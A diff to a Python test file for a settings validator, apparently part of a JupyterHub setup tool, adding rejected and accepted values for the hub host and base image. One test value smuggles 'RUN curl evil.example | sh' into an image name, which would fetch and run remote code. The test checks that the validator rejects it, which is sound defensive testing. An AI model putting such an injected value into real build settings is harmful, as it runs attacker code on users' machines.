@@ -104,6 +104,12 @@ def test_every_problem_is_reported_at_once():
 
 
 BAD_SETTINGS = [
+    ({"quickjh_subdomain_host": "hub.example.org"}, "quickjh_subdomain_host: 'hub.example.org' is not the hub's"),
+    ({"quickjh_subdomain_host": "https://10.0.0.1:8000"}, "is not the hub's address"),
+    ({"quickjh_subdomain_host": "https://hub.example.org/jupyter/"}, "is not the hub's address"),
+    ({"quickjh_base_image": "debian:trixie\nRUN curl evil.example | sh"}, "quickjh_base_image: 'debian:trixie\\nRUN"),
+    ({"quickjh_base_image": "Debian Trixie"}, "is not an image reference"),
+    ({"quickjh_base_image": "debian:tag:again"}, "is not an image reference"),
     ({"quickjh_pip_index_url": "ftp://index"}, "not an http(s):// URL: ftp://index"),
     ({"quickjh_https_proxy": "http://proxy:3128\n"}, "not an http(s):// URL: http://proxy:3128\n"),
     ({"quickjh_pip_extra_index_urls": ["https://ok", "nope"]}, "not an http(s):// URL: nope"),
@@ -201,6 +207,16 @@ def test_certificate_files_must_be_a_pair_valid_now(tmp_path):
 
 def test_the_defaults_and_common_good_settings_have_no_problems(tmp_path):
     cert, key = certificate(tmp_path)
+    for host in ("https://hub.example.org", "https://hub.example.org:8000", "http://jupyter.team.internal:8443/"):
+        assert problems(quickjh_subdomain_host=host) == [], host
+    for image in (
+        "debian:trixie-slim",
+        "ubuntu:24.04",
+        "registry.example.org:5000/team/base:1.0",
+        "python:3.13-slim@sha256:" + "a" * 64,
+        "localhost/quickjh-base",
+    ):
+        assert problems(quickjh_base_image=image) == [], image
     assert problems() == []
     assert problems(quickjh_default_url="/lab/tree/README.ipynb", quickjh_user_max_processes=0) == []
     assert problems(quickjh_base_url="/jupyter/", quickjh_shared_folders=[{"name": "data", "group": "analysts"}]) == []
